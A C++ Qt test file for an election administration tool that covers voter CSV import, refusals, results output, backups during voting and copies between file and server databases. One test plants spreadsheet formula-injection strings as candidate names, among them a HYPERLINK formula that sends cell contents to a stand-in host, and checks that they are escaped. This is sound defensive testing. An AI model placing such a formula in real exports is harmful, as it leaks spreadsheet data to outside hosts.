// pollaris-admin as a separate process against elections in files and on a server:
// creating, importing voters, results, backups during voting, copies between engines.

#include "TestSupport.h"

#include "NewFile.h"
#include "screens/frmCountVotes.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QLabel>
#include <QListWidget>
#include <QScopeGuard>
#include <atomic>
#include <memory>
#include <thread>

// Every row of every table, in the order the rows were added.
static QStringList everything(const ElectionFolder &e)
{
    QStringList all;
    for (const char *table : {"Positions", "CandInfo", "CandVote", "Users", "Administrators"})
        all << table + e.rows(QStringLiteral("SELECT * FROM %1 ORDER BY rowid").arg(table)).join("\n");
    return all;
}

class AdminToolTest : public QObject {
    Q_OBJECT
    std::unique_ptr<ElectionFolder> db;

    QString csv(const QByteArray &bytes)
    {
        QFile f(db->folder() + "/voters.csv");
        return f.open(QIODevice::WriteOnly) && f.write(bytes) == bytes.size() ? f.fileName() : QString();
    }

private slots:
    void initTestCase() { QVERIFY2(QFile::exists(qEnvironmentVariable("POLLARIS_ADMIN")), "POLLARIS_ADMIN not set"); }
    void initTestCase_data() { addEngineRows(); }
    void init()
    {
        FETCH_ENGINE(engine);
        db = std::make_unique<ElectionFolder>(engine);
    }

    void newCreatesAnElectionWithThePasswordFromStandardInput()
    {
        if (db->onServer())
            db->exec("DROP TABLE Positions, CandInfo, CandVote, Users, Administrators; DROP COLLATION pollaris_nocase");
        else
            QVERIFY(QFile::remove(db->file()));
        const Run r =
            admin(QStringList{"new", "--admin", "boss", "--password-stdin"} + db->toolArguments(), "s3cret pass\r\n");
        QVERIFY2(r.exitCode == 0 && r.err.isEmpty(), qPrintable(r.err));
        QCOMPARE(everything(*db),
                 QStringList({"Positions", "CandInfo", "CandVote", "Users", "Administratorsboss|s3cret pass"}));
    }

    void newThroughTheInstalledLinkMakesTheFileAtItsEndForOwnerAndGroupOnly()
    {
        if (db->onServer())
            QSKIP("the link is the file engine's");
        // As installed: the tool's default file is a link into the data folder.
        const QString bin = db->folder() + "/bin", data = db->folder() + "/data";
        const QString tool = bin + "/pollaris-admin", link = bin + "/candpos4.mdb";
        QVERIFY(QDir().mkdir(bin) && QDir().mkdir(data) && QFile::copy(qEnvironmentVariable("POLLARIS_ADMIN"), tool));
        QVERIFY(QFile::link(data + "/candpos4.mdb", link));
        const auto installed = [&](const QStringList &args) { return runProgram(tool, args); };
        // A password on the command line is taken, with a warning.
        const Run r = installed({"new", "--admin", "boss", "--password", "pw"});
        QVERIFY2(r.exitCode == 0 && r.err.contains("warning: a password given with --password"), qPrintable(r.err));
        const QFileInfo file(data + "/candpos4.mdb");
        QVERIFY(file.isFile() && !file.isSymLink() && QFileInfo(link).isSymLink());
        QCOMPARE(file.permissions() & ~(QFile::ReadUser | QFile::WriteUser),
                 QFile::ReadOwner | QFile::WriteOwner | QFile::ReadGroup | QFile::WriteGroup);
        QCOMPARE(installed({"results"}).exitCode, 0);
        // A data folder that is missing: refused, and the link stays for the next try.
        QVERIFY(QDir(data).removeRecursively());
        QVERIFY(installed({"new", "--admin", "boss", "--password", "pw"}).exitCode > 0);
        QVERIFY(QFileInfo(link).isSymLink() && !QFile::exists(data));
    }

    // A command line refused: its status, its words on standard error (the file's, then
    // the server's after a '|' where they differ), nothing on standard output, and
    // nothing made, changed or followed. In the arguments, ELECTION and TARGET name this
    // election as a command and as a place, NOWHERE one that is missing; DIR/ is the folder.
    void refusalsLeaveEverythingAsItWas_data()
    {
        QTest::addColumn<QStringList>("args");
        QTest::addColumn<int>("status");
        QTest::addColumn<QString>("words");
        const auto row = [](const char *name, const QStringList &args, int status, const QString &words) {
            QTest::newRow(name) << args << status << words;
        };
        const QStringList make{"new", "--admin", "x", "--password", "y"};
        const QString missing = "no election file DIR/missing.mdb|\"pollaris_missing\" does not exist";
        row("unknown command", {"vote"}, 2, "unknown command 'vote'");
        row("new over the election", make + QStringList{"ELECTION"}, 1, "already exists|already holds an election");
        row("new at a link", make + QStringList{"DIR/link"}, 1, "DIR/link is a symbolic link");
        row("new, no administrator", {"new", "NOWHERE"}, 1, "no administrator name given; nothing was created");
        row("new, nothing on standard input", {"new", "--admin", "x", "--password-stdin", "DIR/new.mdb"}, 1,
            "DIR/new.mdb: no password on standard input; nothing was created");
        row("password in a connection string", {"results", "--server", "postgresql://u:pw@localhost/x"}, 2,
            "pollaris-admin results: The connection string holds a password. Put the password in ~/.pgpass");
        row("results of no election", {"results", "NOWHERE"}, 1, missing);
        row("import into no election", {"import-voters", "DIR/voters.csv", "NOWHERE"}, 1, missing);
        row("backup of no election", {"backup", "DIR/copy.mdb", "NOWHERE"}, 1, missing);
        row("backup to a folder", {"backup", "DIR/sub", "ELECTION"}, 1, "DIR/sub is a folder");
        row("copy over a file", {"copy", "TARGET", "DIR/kept"}, 1, "DIR/kept already exists");
        row("report over a file", {"report", "--out", "DIR/kept", "ELECTION"}, 1,
            "DIR/kept already exists; it was left untouched");
    }

    void refusalsLeaveEverythingAsItWas()
    {
        QFETCH(QStringList, args);
        QFETCH(int, status);
        QFETCH(QString, words);
        const QString dir = db->folder() + '/';
        QFile kept(dir + "kept");
        QVERIFY(QFile::link(dir + "pointed", dir + "link") && QDir(dir).mkdir("sub") &&
                kept.open(QIODevice::WriteOnly) && kept.write("kept") == 4 && kept.flush());
        csv("Name,Student ID,Password\nAnn,1,p\n");
        const QStringList nowhere = db->onServer() ? QStringList{"--server", db->server() + " dbname=pollaris_missing"}
                                                   : QStringList{dir + "missing.mdb"};
        QStringList line;
        for (const QString &arg : args)
            line << (arg == "ELECTION"  ? db->toolArguments()
                     : arg == "NOWHERE" ? nowhere
                     : arg == "TARGET"  ? QStringList{db->target()}
                                        : QStringList{QString(arg).replace("DIR/", dir)});
        const int part = db->onServer() ? -1 : 0;
        words = words.section('|', part, part).replace("DIR/", dir);
        const auto state = [&] { // the election, what the folder and sub hold, the kept file
            QFile f(kept.fileName());
            const auto all = QDir::AllEntries | QDir::System | QDir::Hidden | QDir::NoDotAndDotDot;
            return everything(*db) << QDir(dir).entryList(all).join('|') << QDir(dir + "sub").entryList(all).join('|')
                                   << QString::fromUtf8(f.open(QIODevice::ReadOnly) ? f.readAll() : "unreadable");
        };
        const QStringList before = state();
        const Run r = admin(line);
        QCOMPARE(r.exitCode, status);
        QVERIFY2(r.err.contains(words), qPrintable(r.err));
        QCOMPARE(r.out, QString());
        QCOMPARE(state(), before);
    }

    // A register is taken whole or not at all; a refused one names the line of each fault.
    void importsAGoodRegisterOrRefusesTheWholeFile_data()
    {
        QTest::addColumn<QByteArray>("bytes");
        QTest::addColumn<QString>("fault");
        QTest::addColumn<QStringList>("imported");
        // Around line 4: a byte order mark, CRLF and LF, quoted comma and quotes, outer
        // blanks, a blank row.
        const auto around = [](const QByteArray &row) {
            return "\xEF\xBB\xBFName,Student ID,Password\r\n\"Reyes, Maria\",good-1,\"say \"\"hi\"\"\"\r\n"
                   " Two  Blanks , good-2,p2\n" +
                   row + "\r\nlast,good-3,p3\n,,\n";
        };
        QTest::newRow("good") << around("Jürgen Ärger,ÄB1,été") << QString()
                              << QStringList({"Reyes, Maria|good-1|say \"hi\"|0", "Two  Blanks|good-2|p2|0",
                                              "Jürgen Ärger|ÄB1|été|0", "last|good-3|p3|0"});
        // Columns in another order, by other names, separated by semicolons, blank rows skipped.
        QTest::newRow("other columns")
            << QByteArray(" PASSWORD ;username; Name \r\n x1 ; A103 ;Ann Lee\r\n\r\n;;\r\npw2;B7;Bo\r\n;;\r\n")
            << QString() << QStringList({"Ann Lee|A103|x1|0", "Bo|B7|pw2|0"});
        const auto fault = [&](const char *name, const QByteArray &bytes, const QString &words) {
            QTest::newRow(name) << bytes << words << QStringList();
        };
        fault("empty password", around("Ann,2026201,\"\""), "4: the password is empty");
        fault("long id", around("Ann,123456789012345678901,pw"), "4: the student ID is longer than 20 characters");
        fault("two fields", around("Ann,2026201"), "4: 2 fields, expected 3");
        fault("registered, non-ASCII case", around("Ann,äb,pw"), "4: student ID 'äb' is already registered");
        fault("repeated in file, other case", around("Ann,GOOD-1,pw"),
              "4: student ID 'GOOD-1' repeats the one on line 2");
        fault("unclosed quote", around("Ann,2026201,\"pw"), "4: a quoted field is not closed");
        fault("stray quote", around("An\"n,2026201,pw"), "4: a quote inside an unquoted field");
        fault("nul", around(QByteArray("ab\0cd,2026201,pw", 16)), "4: the name holds a control character (U+0000)");
        fault("line break", around("Ann,2026201,\"p\nw\""), "4: the password holds a control character (U+000A)");
        // No header: refused, so that its first voter is not taken for one.
        fault("no header", "Ann,1,p\nBo,2,q\n",
              "1: the first row must be the header naming the columns Name, Student ID (or Username) and Password");
        fault("a column twice", "Name,Student ID,Student ID\nAnn,1,p\n", "1: the first row must be the header");
        // Not UTF-8: the line of the first bad byte.
        fault("not UTF-8", "Name,Username,Password\nAnn,1,p\nB\xE9o,2,q\n",
              "3: the file is not UTF-8 text; in the spreadsheet, save it as \"CSV UTF-8\"");
    }

    void importsAGoodRegisterOrRefusesTheWholeFile()
    {
        QFETCH(QByteArray, bytes);
        QFETCH(QString, fault);
        QFETCH(QStringList, imported);
        db->exec("INSERT INTO Users VALUES ('Old', 'ÄB', 'x', true)");
        const QString file = csv(bytes);
        const Run r = admin(QStringList{"import-voters", file} + db->toolArguments());
        if (fault.isEmpty())
            QVERIFY2(r.exitCode == 0 && r.out.contains(QStringLiteral("Imported %1 voter(s)").arg(imported.size())) &&
                         r.out.contains("outer blanks of 2 field(s)"),
                     qPrintable(r.err));
        else
            QVERIFY2(refused(r, file + " line " + fault) && r.err.contains("nothing was imported"), qPrintable(r.err));
        QCOMPARE(db->rows("SELECT Name, Username, Password, HasVoted FROM Users ORDER BY rowid"),
                 QStringList{"Old|ÄB|x|1"} + imported);
    }

    void importRefusesWhatIsTooLargeAndTakesALongRegister()
    {
        const auto import = [this](const QString &file) {
            return admin(QStringList{"import-voters", file} + db->toolArguments());
        };
        // A file or a line too large is refused without reading it all.
        QFile huge(db->folder() + "/huge.csv");
        QVERIFY(huge.open(QIODevice::WriteOnly) && huge.write("Name,Username,Password\n") && huge.resize(65 << 20));
        Run r = import(huge.fileName());
        QVERIFY2(refused(r, "huge.csv is larger than 64 MiB"), qPrintable(r.err));
        r = import("/dev/zero");
        QVERIFY2(refused(r, "/dev/zero line 1: the line is longer than 64 KiB"), qPrintable(r.err));
        QCOMPARE(db->count("Users"), 0);

        QByteArray many = "Name,Username,Password\n";
        for (int i = 0; i < 10001; ++i)
            many += "Voter " + QByteArray::number(i) + ",s" + QByteArray::number(i) + ",p\n";
        r = import(csv(many));
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        QCOMPARE(db->count("Users"), 10001);
        // On the server the grown register is measured again at once, so that it is read through its index.
        if (db->onServer())
            QCOMPARE(db->value("SELECT last_analyze IS NOT NULL FROM pg_stat_user_tables WHERE relname = 'users'"), 1);
    }

    // Ranked, most votes first, the tallies written in another order.
    void csvNeverHandsASpreadsheetAFormula()
    {
        const QString chr = db->onServer() ? "chr" : "char";
        db->exec(QString("INSERT INTO Positions VALUES ('+P', '=1+1');"
                         "INSERT INTO CandInfo VALUES ('@A', '=HYPERLINK(\"http://evil.example/\"&A1,\"Click\")', "
                         "'1', '+P'), ('B', '@SUM(1)', '2', '+P'), ('C', '-2+3', '3', '+P'), ('D', %1(9) || 'tab', '4',"
                         " '+P'), ('E', %1(13) || 'cr', '5', '+P'), ('F', 'Ann = Bo - 1', '6', '+P');"
                         "INSERT INTO CandVote VALUES ('F', -1), ('C', 4), ('@A', 6), ('E', 2), ('B', 5), ('D', 3)")
                     .arg(chr));
        QCOMPARE(admin(QStringList{"results", "--csv"} + db->toolArguments()).out.split("\r\n"),
                 QStringList({"PosID,PosName,CandID,CandName,NumVotes",
                              "'+P,'=1+1,'@A,\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"Click\"\")\",6",
                              "'+P,'=1+1,B,'@SUM(1),5", "'+P,'=1+1,C,'-2+3,4", "'+P,'=1+1,D,'\ttab,3",
                              "'+P,'=1+1,E,\"'\rcr\",2", "'+P,'=1+1,F,Ann = Bo - 1,-1", ""}));
    }

    void resultsEqualTheResultsScreen()
    {
        // Codes in either case, a tally twice, a negative tally, a position with no candidates,
        // a tie whose tallies were written in another order than the candidates.
        db->exec(QStringLiteral(
            "INSERT INTO Positions VALUES ('P1', 'Head, \"Chief\"'), ('p2', 'Secretary'), ('P3', 'Nobody');"
            "INSERT INTO CandInfo VALUES ('A', 'Ana Cruz', '1', 'P1'), ('B', 'Li, Bo', '2', 'p1'), ('F', 'Fay', '6',"
            " 'P1'), ('C', 'Carla Villanueva de los Santos', '3', 'P1'), ('D', 'Dee', '4', 'P2'), ('E', 'Émile', '5',"
            " 'p2'); INSERT INTO CandVote VALUES ('C', 12), ('B', 40), ('A', 12), ('D', 0), ('E', 33000), ('b', 7),"
            " ('F', -1);"));
        startProgramOn(*db);
        frmCountVotes &screen = Shell::Show<frmCountVotes>();
        QString shown;
        for (const QString &code : db->rows("SELECT PosID FROM Positions ORDER BY rowid")) {
            screen.GetnDisplay(code);
            shown += (shown.isEmpty() ? "" : "\n") + screen.lblTitle->text().remove("Voting Results for ") + "\n";
            for (int i = 0; i < screen.lstResults->count(); ++i)
                shown += screen.lstResults->item(i)->text() + "\n";
        }
        Shell::reset();
        QCOMPARE(admin(QStringList{"results"} + db->toolArguments()).out, shown);
    }

    // Once voting has begun, the copy says it is as secret as the election; whatever
    // appears at its place while it is written stays as it is.
    void backupWarnsOfVotesAndKeepsWhatAppearsAtItsPlace()
    {
        if (db->onServer())
            QSKIP("the copy's target is a file either way");
        const QString dir = db->folder();
        db->exec("INSERT INTO CandVote VALUES ('A', 1)");
        const Run r = admin({"backup", dir + "/voted.mdb", db->file()});
        QVERIFY2(r.exitCode == 0 && r.out.contains("already holds votes"), qPrintable(r.out));
        for (const QString &late : {QStringLiteral("file"), QStringLiteral("link")}) {
            const QString target = dir + "/late-" + late;
            const QString failure = NewFile::create(target, [&](const QString &partial) {
                QFile copy(partial), other(target);
                if (!copy.open(QIODevice::WriteOnly) || copy.write("copy") != 4)
                    return QStringLiteral("cannot write");
                if (late == "file" ? !other.open(QIODevice::WriteOnly) : !QFile::link(dir + "/elsewhere", target))
                    return QStringLiteral("cannot put something in the way");
                return QString();
            });
            QVERIFY2(failure.contains(target) && failure.contains("appeared while"), qPrintable(failure));
            QVERIFY(!QFile::exists(dir + "/elsewhere"));
        }
        QCOMPARE(QDir(dir).entryList({".*partial*"}, QDir::Files | QDir::Hidden), QStringList());
        QCOMPARE(QFileInfo(dir + "/late-file").size(), 0);
    }

    // Server to new file and back to an empty database, every row and field in order;
    // nothing at a target is overwritten; a copy failing half-way leaves no tables.
    void copyBetweenFileAndServerBothWaysLosesNothing()
    {
        if (!db->onServer())
            QSKIP("needs both engines: runs in the server's row");
        db->exec("INSERT INTO Positions VALUES ('P1','Head, \"Chief\"'),('p2','Sécretary');"
                 "INSERT INTO CandInfo VALUES ('A','Ana O''Cruz','1','P1'),('B',NULL,'2','p2');"
                 "INSERT INTO CandVote VALUES ('A',2147483647),('B',-1),('b',NULL);"
                 "INSERT INTO Users VALUES ('Ärger','ä1','pw',true),('N','n2',NULL,false),('F','f3','x',NULL);"
                 "DELETE FROM CandInfo WHERE CandID = 'A'; INSERT INTO CandInfo VALUES ('A','Ana O''Cruz','1','P1');"
                 "SELECT pollaris_log_append('desk 1', 'candidate A deleted'), pollaris_log_append('desk 2', 'ended');"
                 "SELECT pollaris_count_failure('voter log-ins failed') FROM generate_series(1, 3)");
        const QStringList original = everything(*db);
        const QStringList record = db->rows("SELECT seq || '|' || at || '|' || station || '|' || what || '|' || hash "
                                            "FROM pollaris_log ORDER BY seq");
        QCOMPARE(record.size(), 2);
        ElectionFolder file;
        QVERIFY(QFile::remove(file.file()));
        Run r = admin({"copy", db->server(), file.file()});
        QVERIFY2(r.exitCode == 0 && r.out.contains("2 Positions, 2 CandInfo, 3 CandVote, 3 Users, 1 Administrators"),
                 qPrintable(r.err + r.out));
        QCOMPARE(everything(file), original);
        // The election's record goes with it entry for entry, and its chain goes on
        // with the copy; so do the counts of failed log-ins.
        const auto recordOf = [](auto &election) {
            return election.rows("SELECT seq || '|' || at || '|' || station || '|' || what || '|' || hash "
                                 "FROM pollaris_log ORDER BY seq");
        };
        QStringList copied = recordOf(file);
        QCOMPARE(copied.mid(0, 2), record);
        QCOMPARE(copied.size(), 3);
        QVERIFY2(copied.last().contains("copied from the election on the server"), qPrintable(copied.last()));
        QCOMPARE(file.rows("SELECT what || '=' || count FROM pollaris_counts"), QStringList{"voter log-ins failed=3"});
        r = admin({"log", "--verify", file.file()});
        QVERIFY2(r.exitCode == 0 && r.out.contains("holds 3 entries"), qPrintable(r.out + r.err));
        // As private as a backup: it holds every password and vote.
        QCOMPARE(QFile(file.file()).permissions() & ~(QFile::ReadUser | QFile::WriteUser),
                 QFile::ReadOwner | QFile::WriteOwner);

        // Nor is a server's election (a file's places are tried with the other refusals).
        r = admin({"copy", file.file(), db->server()});
        QVERIFY2(refused(r, "already holds an election"), qPrintable(r.err));
        QCOMPARE(everything(*db), original);

        // Back to an empty database.
        const QString drop = "DROP TABLE Positions, CandInfo, CandVote, Users, Administrators, pollaris_units, "
                             "pollaris_ballots, pollaris_counts, pollaris_log";
        db->exec(drop);
        r = admin({"copy", file.file(), db->server()});
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        QCOMPARE(everything(*db), original);
        copied = recordOf(*db);
        QCOMPARE(copied.mid(0, 3), recordOf(file));
        QCOMPARE(copied.size(), 4);
        QCOMPARE(db->rows("SELECT what || '=' || count FROM pollaris_counts"), QStringList{"voter log-ins failed=3"});
        r = admin(QStringList{"log", "--verify"} + db->toolArguments());
        QVERIFY2(r.exitCode == 0 && r.out.contains("holds 4 entries"), qPrintable(r.out + r.err));
        // Every session on the election is ended by the server when it sits idle in the
        // middle of a save, whoever opened it.
        QCOMPARE(db->value("SELECT array_to_string(setconfig, ',') FROM pg_db_role_setting "
                           "WHERE setdatabase = (SELECT oid FROM pg_database WHERE datname = current_database())")
                     .toString(),
                 QStringLiteral("idle_in_transaction_session_timeout=2s"));

        // A value the server refuses (a flag of 2) stops the copy with no table made.
        file.exec("UPDATE Users SET HasVoted = 2 WHERE Username = 'n2'");
        db->exec(drop);
        r = admin({"copy", file.file(), db->server()});
        QVERIFY2(refused(r, "nothing was copied"), qPrintable(r.err));
        QCOMPARE(db->value("SELECT count(*) FROM pg_class WHERE relnamespace = current_schema()::regnamespace").toInt(),
                 0);
    }

    // A copy is one moment of the election while a station votes as fast as it can:
    // each vote counts itself, in one unit, in the position's name and in the
    // administrator's password, the first table copied and the last.
    void backupIsOneMomentWhileVotesAreWritten()
    {
        db->exec("WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 20000)"
                 " INSERT INTO Users SELECT 'Voter ' || i, 'S' || i, 'p', false FROM n;"
                 "INSERT INTO CandInfo SELECT 'C' || Username, Name, 'S', 'P' FROM Users;"
                 "INSERT INTO Positions VALUES ('P', '0'); UPDATE Administrators SET AdminPassword = '0'");
        std::atomic<int> written{0}, stop{0};
        std::thread writer([&] {
            for (; !stop; ++written)
                db->exec("BEGIN; UPDATE Positions SET PosName = CAST(CAST(PosName AS INTEGER) + 1 AS TEXT); UPDATE "
                         "Administrators SET AdminPassword = CAST(CAST(AdminPassword AS INTEGER) + 1 AS TEXT); COMMIT");
        });
        const auto joinWriter = qScopeGuard([&] { stop = 1, writer.join(); });
        ElectionFolder copy;
        for (int k = 0; k < 3; ++k) {
            const int before = written;
            QTRY_VERIFY_WITH_TIMEOUT(written > before + 2, 20000); // votes go on between the copies
            QVERIFY(QFile::remove(copy.file()));
            const Run r = admin(QStringList{"backup", copy.file()} + db->toolArguments());
            QVERIFY2(r.exitCode == 0, qPrintable(r.err));
            QCOMPARE(copy.rows("SELECT PosName = (SELECT AdminPassword FROM Administrators), (SELECT count(*) FROM "
                               "CandInfo), (SELECT count(*) FROM Users), (SELECT * FROM pragma_integrity_check) "
                               "FROM Positions"),
                     QStringList{"1|20000|20000|ok"});
            QVERIFY(copy.value("SELECT CAST(PosName AS INTEGER) FROM Positions").toInt() > before);
        }
    }
};

POLLARIS_TEST_MAIN(AdminToolTest)
#include "tst_admintool.moc"